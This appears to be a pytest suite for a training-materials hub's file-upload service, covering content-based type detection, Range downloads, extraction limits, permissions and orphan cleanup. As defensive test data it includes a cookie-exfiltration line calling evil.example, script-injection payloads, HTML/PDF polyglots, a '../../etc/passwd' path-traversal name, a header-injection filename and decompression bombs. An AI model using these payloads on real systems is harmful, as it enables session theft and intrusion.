"""Training material files: upload (type by content), list, download with Range, delete, extraction with
limits, hostile files, storage without orphans."""
from __future__ import annotations

import hashlib
import io

import pytest

from atn_hub.files.content import safe_filename
from atn_hub.files.node import NodeFiles
from tests.files import samples
from tests.files.helpers import extract, fetch, files_url, upload
from tests.files.samples import SENTENCE
from tests.helpers import create, url


@pytest.fixture
def material(client, member):
    return create(client, member, "training-materials").json


KINDS = {
    "brochure.pdf": (lambda: samples.pdf(["Cover page", SENTENCE]), "application/pdf", 2),
    "course.docx": (lambda: samples.docx(["Module one", SENTENCE]),
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document", 1),
    "slides.pptx": (lambda: samples.pptx(["Welcome", SENTENCE]),
                    "application/vnd.openxmlformats-officedocument.presentationml.presentation", 2),
    "handout.odt": (lambda: samples.odt(["Handout", SENTENCE]), "application/vnd.oasis.opendocument.text", 1),
    "notes.txt": (lambda: f"Notes\n{SENTENCE}\n".encode(), "text/plain", 1),
    "README.md": (lambda: f"# Guide\n\n{SENTENCE}\n".encode(), "text/markdown", 1),
}


@pytest.mark.parametrize("name", list(KINDS))
def test_each_type_is_recognised_extracted_and_downloaded_intact(app, client, member, material, name):
    make, content_type, pages = KINDS[name]
    content = make()
    response = upload(client, member, material["id"], content, name)
    assert response.status_code == 201, response.json
    file = response.json
    assert file["content_type"] == content_type and file["size"] == len(content)
    assert file["sha256"] == hashlib.sha256(content).hexdigest() and file["text_status"] == "pending"

    assert extract(app) == 1
    listed = client.get(files_url(material["id"]), headers=member.headers).json
    assert [f["id"] for f in listed] == [file["id"]]
    assert listed[0]["text_status"] == "done", listed[0]["text_error"]
    assert listed[0]["page_count"] == pages and listed[0]["language"] == "en"

    indexer = app.extensions["atn_search"].indexer
    assert indexer.wait_for(indexer.last_logged_seq())
    found = client.get('/api/v1/search?q="presumed victims through the residence procedure in Utrecht"',
                       headers=member.headers).json
    assert [h["id"] for h in found["hits"]] == [material["id"]]
    hit = found["hits"][0]
    assert hit["snippet_field"] == "file" and "<mark>Utrecht</mark>" in hit["snippet"], (hit["snippet"], hit["file"])
    assert {k: hit["file"][k] for k in ("id", "filename", "page")} == {"id": file["id"], "filename": name,
                                                                       "page": pages}
    assert hit["file"]["url"].endswith(files_url(material["id"], file["id"]))

    download = fetch(client, files_url(material["id"], file["id"]), headers=member.headers)
    assert download.status_code == 200 and download.data == content
    assert download.mimetype == content_type
    assert download.headers["ETag"] == f'"{file["sha256"]}"'
    assert download.headers["Content-Disposition"].startswith("attachment;") and name in \
        download.headers["Content-Disposition"]


def test_range_requests_reassemble_the_file(client, member, material):
    content = samples.pdf([SENTENCE] * 30)
    file = upload(client, member, material["id"], content, "long.pdf").json
    path, parts, start = files_url(material["id"], file["id"]), [], 0
    while start < len(content):
        part = fetch(client, path, headers={**member.headers, "Range": f"bytes={start}-{start + 999}"})
        assert part.status_code == 206
        assert part.headers["Content-Range"].startswith(f"bytes {start}-")
        parts.append(part.data)
        start += 1000
    assert b"".join(parts) == content
    etag = fetch(client, path, headers=member.headers).headers["ETag"]
    assert fetch(client, path, headers={**member.headers, "If-None-Match": etag}).status_code == 304
    unsatisfiable = fetch(client, path, headers={**member.headers, "Range": f"bytes={len(content) + 10}-"})
    assert unsatisfiable.status_code == 416


def test_images_are_kept_without_text(app, client, member, material):
    file = upload(client, member, material["id"], samples.png(), "photo.png").json
    assert file["content_type"] == "image/png" and file["text_status"] == "none"
    assert extract(app) == 0


def test_the_content_decides_not_the_name(client, member, material):
    renamed = upload(client, member, material["id"], samples.pdf([SENTENCE]), "innocent.txt")
    assert renamed.status_code == 201 and renamed.json["content_type"] == "application/pdf"
    executable = upload(client, member, material["id"], b"\x7fELF\x02\x01\x01" + b"\x00" * 100, "brochure.pdf")
    assert executable.status_code == 415 and "file" in executable.json["errors"]["files"]
    zipped = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("payload.exe", b"MZ")
    assert upload(client, member, material["id"], zipped.getvalue(), "course.docx").status_code == 415


@pytest.mark.parametrize("content, name, status", [
    (b"", "empty.pdf", 422),
    (samples.docx_bomb(), "bomb.docx", 422),
    (samples.png_bomb(), "bomb.png", 422),
    (b"PK\x03\x04 truncated", "broken.docx", 422),
    (b"\xff\xfe\x00\x00binary", "notes.txt", 415),
    (samples.pdf([SENTENCE] * 3)[:300], "truncated.pdf", 415),
])
def test_hostile_uploads_get_a_clear_4xx_and_change_nothing(client, member, material, content, name, status):
    response = upload(client, member, material["id"], content, name)
    assert response.status_code == status, response.json
    assert response.json["errors"]["files"]["file"]
    assert client.get(files_url(material["id"]), headers=member.headers).json == []


@pytest.mark.parametrize("make, reason", [
    (lambda: samples.encrypted_pdf(SENTENCE), "encrypted"),
    (lambda: samples.empty_pages_pdf(100_000), "pages"),
])
def test_hostile_files_are_stored_with_a_failed_extraction_and_a_reason(app, client, member, material, make,
                                                                        reason):
    response = upload(client, member, material["id"], make(), "hostile.pdf")
    assert response.status_code == 201
    assert extract(app) == 1
    file = client.get(files_url(material["id"]), headers=member.headers).json[0]
    assert file["text_status"] == "failed" and reason in file["text_error"].lower()
    assert client.get("/api/v1/training-materials", headers=member.headers).status_code == 200  # still serving


def test_extraction_has_time_and_memory_limits(app, tmp_path):
    from atn_hub.files.extract import Failed
    from atn_hub.files.extract import extract as run

    big = tmp_path / "big.txt"
    big.write_text(SENTENCE * 200_000)
    with pytest.raises(Failed, match="limits|longer"):
        run(big, "text/plain", timeout=30, memory_mb=40)
    with pytest.raises(Failed, match="longer than"):
        run(tmp_path / "big.txt", "application/pdf", timeout=0.05)


def test_names_never_reach_a_path_or_a_header_unsafely(client, member, material):
    for name, expected in (("../../etc/passwd", "passwd.txt"), ("evil\x00\x1b[31m.txt\x07", "evil[31m.txt"),
                           ("..", "file.txt"),
                           ("Brochure über Menschenhandel.txt", "Brochure über Menschenhandel.txt")):
        response = upload(client, member, material["id"], f"{SENTENCE}\n".encode(), name)
        assert response.status_code == 201, name
        assert response.json["filename"] == expected
        download = fetch(client, files_url(material["id"], response.json["id"]), headers=member.headers)
        assert download.status_code == 200 and "\x1b" not in download.headers["Content-Disposition"]
    assert safe_filename("report.pdf\r\nX-Injected: 1", "application/pdf") == "report.pdfX-Injected: 1.pdf"
    assert safe_filename("C:\\Users\\me\\brochure.pdf", "application/pdf") == "brochure.pdf"


DISGUISED = [  # (uploaded name, content, served name, type detected)
    ("brochure.pdf.hta", lambda: samples.pdf([SENTENCE]), "brochure.pdf", "application/pdf"),
    ("ATN-guide.bat", lambda: b"@echo off\r\nstart https://atn.example/guide\r\n", "ATN-guide.txt", "text/plain"),
    ("setup.js", lambda: b"fetch('https://evil.example/?c=' + document.cookie);\n", "setup.txt", "text/plain"),
    ("report.html", lambda: b"<html><body><script>alert(document.domain)</script></body></html>\n", "report.txt",
     "text/plain"),
    ("photo.jpeg.exe", lambda: samples.png(), "photo.jpeg.png", "image/png"),
]


@pytest.mark.parametrize("name, make, served, content_type", DISGUISED, ids=[d[0] for d in DISGUISED])
def test_a_served_name_ends_with_the_extension_of_the_type_detected(client, member, material, name, make, served,
                                                                   content_type):
    response = upload(client, member, material["id"], make(), name)
    assert response.status_code == 201, response.json
    assert response.json["filename"] == served and response.json["content_type"] == content_type
    assert [f["filename"] for f in client.get(files_url(material["id"]), headers=member.headers).json] == [served]
    download = fetch(client, files_url(material["id"], response.json["id"]), headers=member.headers)
    assert download.mimetype == content_type
    assert download.headers["Content-Disposition"] == f"attachment; filename={served}"


POLYGLOTS = {
    "html with %PDF- in a comment near its top":
        b"<!doctype html><!-- %PDF-1.7 --><html><body><script>alert(document.domain)</script></body></html>\n",
    "html starting with %PDF-": b"%PDF-1.4\n<html><body><script>alert(document.domain)</script></body></html>\n",
    "html before a real pdf": b"<html><script>alert(1)</script></html>\n" + samples.pdf([SENTENCE]),
    "a truncated pdf": samples.pdf([SENTENCE] * 3)[:300],
}


@pytest.mark.parametrize("content", list(POLYGLOTS.values()), ids=list(POLYGLOTS))
def test_a_file_that_starts_like_a_pdf_but_does_not_open_as_one_is_refused(client, member, material, content):
    response = upload(client, member, material["id"], content, "brochure.pdf")
    assert response.status_code == 415, response.json
    assert "PDF" in response.json["errors"]["files"]["file"][0]
    assert client.get(files_url(material["id"]), headers=member.headers).json == []


def test_who_may_upload_read_and_delete(client, member, other_member, make_caller, material, coordinator):
    content = samples.pdf([SENTENCE])
    assert upload(client, other_member, material["id"], content, "x.pdf").status_code == 404
    reader = make_caller("member", "NL", scope="read")
    assert upload(client, reader, material["id"], content, "x.pdf").status_code == 403
    anonymous = client.post(files_url(material["id"]), data={"file": (io.BytesIO(content), "x.pdf")},
                            content_type="multipart/form-data")
    assert anonymous.status_code == 401
    json_body = client.post(files_url(material["id"]), json={"file": "x"}, headers=member.headers)
    assert json_body.status_code == 415
    missing = client.post(files_url(material["id"]), data={}, headers=member.headers,
                          content_type="multipart/form-data")
    assert missing.status_code == 422 and "file" in missing.json["errors"]["files"]

    file = upload(client, member, material["id"], content, "x.pdf").json
    # A draft's files are as private as the draft.
    assert client.get(files_url(material["id"], file["id"])).status_code == 404
    assert client.get(files_url(material["id"], file["id"]), headers=other_member.headers).status_code == 404
    assert client.get(files_url(material["id"]), headers=other_member.headers).status_code == 404
    assert client.delete(files_url(material["id"], file["id"]), headers=other_member.headers).status_code == 404
    client.post(url("training-materials", material["id"]) + "/submit", headers=member.headers)
    assert upload(client, member, material["id"], content, "late.pdf").status_code == 409  # under review
    client.post(url("training-materials", material["id"]) + "/review", json={"decision": "approve"},
                headers=make_caller("coordinator", "GB").headers)
    assert fetch(client, files_url(material["id"], file["id"]), headers=other_member.headers).status_code == 200
    assert client.delete(files_url(material["id"], file["id"]), headers=other_member.headers).status_code == 403
    assert client.delete(files_url(material["id"], file["id"]), headers=member.headers).status_code == 204
    # Published: the removal waits for review, and the file stays served meanwhile.
    assert fetch(client, files_url(material["id"], file["id"]), headers=other_member.headers).status_code == 200
    listed = client.get(files_url(material["id"]), headers=member.headers).json
    assert [(f["id"], f["pending_change"]) for f in listed] == [(file["id"], "removed")]


def test_too_large_is_413(app, client, member, material, monkeypatch):
    monkeypatch.setattr(app.extensions["atn_files"].settings, "max_upload_bytes", 1000)
    response = upload(client, member, material["id"], b"a" * 5000, "big.txt")
    assert response.status_code == 413
    body = (b'--b\r\nContent-Disposition: form-data; name="file"; filename="huge.txt"\r\n\r\n' +
            b"a" * (3 * 1024 * 1024) + b"\r\n--b--\r\n")
    far_too_large = client.post(files_url(material["id"]), data=body, headers=member.headers,
                                content_type="multipart/form-data; boundary=b")
    assert far_too_large.status_code == 413  # refused by the request size limit, before any parsing


def test_same_content_is_stored_once_and_gc_removes_orphans(app, client, member, material):
    content = samples.pdf([SENTENCE])
    first = upload(client, member, material["id"], content, "a.pdf").json
    second = upload(client, member, material["id"], content, "b.pdf").json
    store = app.extensions["atn_files"].store
    assert [k for k, _ in store.keys()] == [first["sha256"]] and first["id"] != second["id"]
    runner = app.test_cli_runner()
    assert '"removed": 0' in runner.invoke(args=["files", "gc", "--grace-seconds", "0"]).output
    client.delete(files_url(material["id"], first["id"]), headers=member.headers)
    assert '"removed": 0' in runner.invoke(args=["files", "gc", "--grace-seconds", "0"]).output  # b.pdf uses it
    other = upload(client, member, material["id"], samples.docx([SENTENCE]), "c.docx").json
    assert client.delete(url("training-materials", material["id"]), headers=member.headers).status_code == 204
    result = runner.invoke(args=["files", "gc", "--grace-seconds", "0"])
    assert '"removed": 2' in result.output, result.output
    assert list(store.keys()) == [] and other["sha256"]
    assert isinstance(app.extensions["atn_files"], NodeFiles)


def test_a_running_server_extracts_in_the_background(live_server, client, member, material):
    import time

    import requests

    content = samples.docx(["Background", SENTENCE])
    started = time.monotonic()
    response = requests.post(f"{live_server}{files_url(material['id'])}", headers=member.headers,
                             files={"file": ("course.docx", content)}, timeout=30)
    assert response.status_code == 201 and response.json()["text_status"] == "pending"
    assert time.monotonic() - started < 5  # the upload does not wait for the extraction
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        status = requests.get(f"{live_server}{files_url(material['id'])}", headers=member.headers,
                              timeout=30).json()[0]["text_status"]
        if status == "done":
            break
        time.sleep(0.2)
    assert status == "done"
